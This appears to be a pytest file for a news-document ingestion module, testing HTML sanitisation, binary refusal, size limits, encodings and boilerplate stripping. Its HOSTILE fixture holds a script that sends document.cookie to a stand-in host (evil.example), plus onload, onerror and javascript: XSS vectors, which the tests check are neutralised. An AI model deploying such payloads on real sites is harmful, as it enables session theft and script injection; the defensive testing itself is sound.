"""Reading documents: hostile HTML, binary files, sizes, encodings, and boilerplate on unseen text."""

from __future__ import annotations

from pathlib import Path

import pytest

from stratagem.evidence import ingest
from stratagem.evidence.errors import (
    BinaryDocumentError,
    DocumentError,
    DocumentTooLargeError,
    EmptyDocumentError,
    EncodingError,
)
from stratagem.evidence.ingest import MAX_DOCUMENT_BYTES, read_document, read_documents
from stratagem.model.errors import StratagemError

ARTICLE = (
    "On Tuesday, Iraqi officials said the talks with the United States would continue next month in Baghdad. "
    "The Coordination Framework, which leads the governing coalition, has asked for a timetable for the "
    "withdrawal of the remaining foreign forces from the country, according to two members of parliament."
)

HOSTILE = f"""<!doctype html><html><head><title>Talks resume</title>
<meta property="article:published_time" content="2024-02-13">
<script>document.location='http://evil.example/?c='+document.cookie</script>
<style>body{{display:none}}</style></head>
<body onload="steal()"><nav><a href="/">Home</a> | <a href="/subscribe">Subscribe</a></nav>
<article><h1>Talks resume</h1>
<p onclick="alert(1)">{ARTICLE} <img src=x onerror="alert(2)"></p>
<p>A second paragraph with enough words to be kept: the militias warned they would resume attacks
if the foreign troops stayed. <iframe src="javascript:alert(3)"></iframe></p>
</article><footer>Sign up for our newsletter</footer></body></html>"""


def _write(tmp_path: Path, name: str, data: bytes) -> Path:
    path = tmp_path / name
    path.write_bytes(data)
    return path


def test_hostile_html_is_extracted_as_inert_text(tmp_path: Path) -> None:
    doc = read_document(_write(tmp_path, "page.html", HOSTILE.encode()))
    assert doc.media_type == "text/html"
    assert "Iraqi officials said" in doc.cleaned
    for bad in ("<script", "document.cookie", "onload", "onerror", "alert(", "javascript:", "<iframe", "<img"):
        assert bad not in doc.cleaned, bad
    assert doc.title == "Talks resume"
    assert doc.date is not None and doc.date.isoformat() == "2024-02-13"
    assert doc.raw == HOSTILE.encode()  # the original bytes are kept, untouched
    assert all("<" not in r.text for r in doc.removed)  # removed lines are text, not markup


def test_html_is_sniffed_without_an_extension(tmp_path: Path) -> None:
    doc = read_document(_write(tmp_path, "page.txt", HOSTILE.encode()))
    assert doc.media_type == "text/html"


@pytest.mark.parametrize(
    ("name", "data", "what"),
    [
        ("report.pdf", b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<<>>\nendobj\n", "PDF"),
        ("photo.png", b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + b"\x00" * 40, "PNG"),
        ("photo.jpg", b"\xff\xd8\xff\xe0\x00\x10JFIF\x00" + b"\x00" * 40, "JPEG"),
        ("blob.txt", b"text then \x00\x01\x02 binary", "NUL"),
    ],
)
def test_binary_files_are_refused_with_one_line(tmp_path: Path, name: str, data: bytes, what: str) -> None:
    with pytest.raises(BinaryDocumentError) as info:
        read_document(_write(tmp_path, name, data))
    message = str(info.value)
    assert "\n" not in message and name in message and what in message
    assert isinstance(info.value, StratagemError)


def test_empty_and_whitespace_files_are_refused(tmp_path: Path) -> None:
    for name, data in (("empty.txt", b""), ("blank.txt", b" \n\n\t\n")):
        with pytest.raises(EmptyDocumentError, match="empty file"):
            read_document(_write(tmp_path, name, data))


def test_text_with_only_boilerplate_is_refused(tmp_path: Path) -> None:
    data = b"Subscribe\n\nBy subscribing you agree to our Privacy Policy\n\nView All\n"
    with pytest.raises(EmptyDocumentError, match="no article text"):
        read_document(_write(tmp_path, "nav.txt", data))


def test_a_50_mb_file_is_refused_above_the_documented_limit(tmp_path: Path) -> None:
    path = tmp_path / "huge.txt"
    with path.open("wb") as f:
        f.truncate(50 * 1024 * 1024)  # sparse: no 50 MB written to disk
    assert path.stat().st_size > MAX_DOCUMENT_BYTES
    with pytest.raises(DocumentTooLargeError, match="above the 20 MB limit"):
        read_document(path)


def test_legacy_encodings_are_detected(tmp_path: Path) -> None:
    text = ("L’accord entre Bagdad et Washington prévoit le départ des troupes américaines. " * 6).strip()
    doc = read_document(_write(tmp_path, "fr.txt", text.encode("cp1252")))
    assert "prévoit le départ" in doc.cleaned
    assert "L’accord" in doc.cleaned and "américaines" in doc.cleaned
    assert doc.encoding != "utf-8"  # detected (cp1252 and cp1250 decode these bytes identically)


def test_invalid_utf8_noise_gives_a_clear_error(tmp_path: Path) -> None:
    data = bytes(range(0x80, 0x100)) * 64 + b"\xc3\x28\xa0\xa1"
    with pytest.raises((EncodingError, BinaryDocumentError)) as info:
        read_document(_write(tmp_path, "garbage.txt", data))
    assert "\n" not in str(info.value) and "garbage.txt" in str(info.value)


def test_missing_file_and_directory_errors(tmp_path: Path) -> None:
    with pytest.raises(DocumentError, match="no such file"):
        read_document(tmp_path / "nope.txt")
    with pytest.raises(DocumentError, match="not a regular file"):
        read_document(tmp_path)


def test_a_directory_yields_documents_and_errors_without_stopping(tmp_path: Path) -> None:
    _write(tmp_path, "a.txt", ARTICLE.encode())
    _write(tmp_path, "b.pdf.txt", b"%PDF-1.4 binary")
    _write(tmp_path, "c.png", b"\x89PNG")  # not a text suffix: skipped when walking a directory
    results = list(read_documents(tmp_path))
    assert [type(r).__name__ for r in results] == ["IngestedDocument", "BinaryDocumentError"]


# --- boilerplate on text written for these tests (not the seeds) -------------------------------

WIRE_STORY = """Skip to content
Menu
World | Middle East

Iraq asks U.S.-led coalition for exit timetable

By Jane Doe and John Roe

March 3, 2024

Share this article

BAGHDAD (Wire) - Iraq's government on Sunday asked the U.S.-led coalition to agree on a timetable for the departure of its forces, a government spokesman said, in a move welcomed by Iran-aligned factions.

Iraqi Prime Minister Mohammed Shia al-Sudani told reporters that the coalition's mission had ended and that bilateral relations would continue "in all other fields."

A U.S. soldier stands guard at a base in western Iraq, January 5. (AP Photo/Photographer)

Kata'ib Hezbollah, which Washington blames for a deadly drone strike in Jordan, said it would suspend attacks to avoid embarrassing the government.

Reporting by Jane Doe; editing by Sam Poe

Related

Iran says its advisers remain in Syria
2 min read

Sign up for our daily newsletter
Enter your email address
"""


def test_wire_story_keeps_every_paragraph_and_cuts_the_rest() -> None:
    doc = ingest.ingest_bytes(WIRE_STORY.encode(), path="wire.txt")
    kept = doc.cleaned
    for needle in ("BAGHDAD (Wire)", "told reporters", "Kata'ib Hezbollah, which Washington", "exit timetable"):
        assert needle in kept, needle
    for gone in ("Skip to content", "Share this", "AP Photo", "Sign up", "Enter your email", "Related",
                 "advisers remain in Syria", "2 min read", "By Jane Doe and John Roe"):
        assert gone not in kept, gone
    assert doc.date is not None and doc.date.isoformat() == "2024-03-03"
    reasons = {r.reason for r in doc.removed}
    assert {"caption", "subscribe-form"} <= reasons


def test_cleaned_offsets_map_back_to_the_source() -> None:
    doc = ingest.ingest_bytes(WIRE_STORY.encode(), path="wire.txt")
    i = doc.cleaned.index("Kata'ib")
    j = doc.source_offset(i)
    assert j is not None and doc.text[j : j + 7] == "Kata'ib"


def test_inline_markdown_link_debris_is_removed() -> None:
    text = (
        "Title of an analysis page\n\n"
        "On April 7, [the secretary of state called for talks](#) (<https://example.org/x>) between the "
        "two governments, a step **that officials in Baghdad welcomed** after months of rocket attacks on bases.\n"
    )
    doc = ingest.ingest_bytes(text.encode(), path="md.txt")
    assert "](#)" not in doc.cleaned and "https://" not in doc.cleaned and "**" not in doc.cleaned
    assert "the secretary of state called for talks between the two governments" in doc.cleaned
